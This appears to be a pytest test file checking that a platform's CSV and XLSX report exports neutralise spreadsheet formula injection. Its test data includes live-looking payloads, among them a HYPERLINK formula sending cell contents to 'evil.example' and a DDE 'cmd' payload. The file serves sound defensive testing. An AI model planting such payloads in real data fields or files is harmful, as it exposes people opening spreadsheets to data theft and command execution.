"""Spreadsheet formula injection: text that other organisations wrote (an initiative's theme,
a company's name from the register) reaches a member's CSV and XLSX report as text, never as
a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from engage.organisations.models import OrgRole
from engage.spreadsheets import append_row, safe_cell
from engage.tenancy import system_scope
from engage.votes.models import Vote, VoteInstruction, VoteStatus
from openpyxl import Workbook, load_workbook

from tests import factories as f
from tests.conftest import login_as

# Each is an initiative's theme (by another organisation, the coordinator), a company's name
# (the shared register) and a vote's item and rationale in the member's report.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click here")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2-3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  @SUM(9)",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff201+1",  # full-width @
    "|calc",
    "%0A=1+1",
    "\x07=HYPERLINK(\"http://evil.example\")",  # a control character in front
    "=HYPERLINK(\"http://evil.example\")\x0b",
]
STARTS = set("=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20")


def _dangerous(text: str) -> bool:
    """Independent of the module under test: would a spreadsheet read this as a formula?"""
    if text[:1] in {"\t", "\r", "\n"}:
        return True
    stripped = text.lstrip()
    if not stripped or stripped[0] not in STARTS:
        return False
    try:
        Decimal(stripped.replace(",", ""))
        return False  # "-12.5": a number written as text
    except ArithmeticError:
        return True


def _expected(value: str) -> str:
    visible = "".join(ch for ch in value if ch in "\t\r\n" or ord(ch) >= 32)
    return "'" + visible


@pytest.fixture
def hostile_world(db_session):
    with system_scope("test world"):
        member = f.organisation("member")
        coordinator = f.organisation("coordinator")
        reader = f.user(member, OrgRole.VIEWER)
        for n, value in enumerate(HOSTILE):
            company = f.company(value[:200], country="NL")
            init = f.initiative(coordinator, theme=value[:100], title=f"Initiative {n}")
            f.member(init, member)
            f.engagement(company, coordinator, init, supporters=(member,),
                         started_on=date(2026, 2, 1))
            db_session.add(Vote(organisation_id=member.id, company_id=company.id,
                                agm_on=date(2026, 4, 1), item=value, rationale=value,
                                instruction=VoteInstruction.AGAINST, status=VoteStatus.CAST))
        db_session.flush()
        return member.id, reader.id


def _login(client, world):
    member_id, reader_id = world
    from engage.extensions import db
    from engage.organisations.models import Organisation, User

    with system_scope("test"):
        login_as(client, db.session.get(User, reader_id), db.session.get(Organisation, member_id))


def test_the_csv_report_neutralises_every_hostile_text(client, hostile_world):
    _login(client, hostile_world)
    response = client.get("/reports/download.csv?year=2026")
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""))
             for c in row]
    assert [c for c in cells if c and _dangerous(c)] == []
    for value in HOSTILE:
        # The theme (topics), the company's name, the vote's item and rationale (votes).
        assert cells.count(_expected(value)) >= 4, repr(value)
    votes = [r for r in csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""))
             if r and r[0] == "votes"]
    assert len(votes) == len(HOSTILE)


def test_the_xlsx_report_has_no_formula_and_no_hostile_text(client, hostile_world):
    _login(client, hostile_world)
    response = client.get("/reports/download.xlsx?year=2026")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    assert [t for t in texts if _dangerous(t)] == []
    for value in HOSTILE:
        # XML reads a carriage return back as a line feed.
        assert texts.count(_expected(value).replace("\r", "\n")) >= 4, repr(value)
    # The counts are numbers still, not text: 20 engagements in the activity table.
    assert len(HOSTILE) in numbers
    topics = book["topics"]
    themes = {_expected(v[:100]).replace("\r", "\n") for v in HOSTILE}
    counts = [row[1] for row in topics.iter_rows() if row[0].value in themes]
    assert len(counts) == len(HOSTILE)
    assert {(c.data_type, c.value) for c in counts} == {("n", 1)}


@pytest.mark.parametrize("value", [-1234.5, -7, Decimal("-1000000.25"), 0, date(2026, 1, 2)])
def test_numbers_and_dates_stay_what_they_are(value):
    assert safe_cell(value) == value
    sheet = Workbook().active
    (cell,) = append_row(sheet, [value])
    assert cell.data_type in {"n", "d"} and cell.value == value


@pytest.mark.parametrize("text", ["-12.5", "-1,000", "Nestlé S.A.", "a = b", "3M", "e-mail"])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text
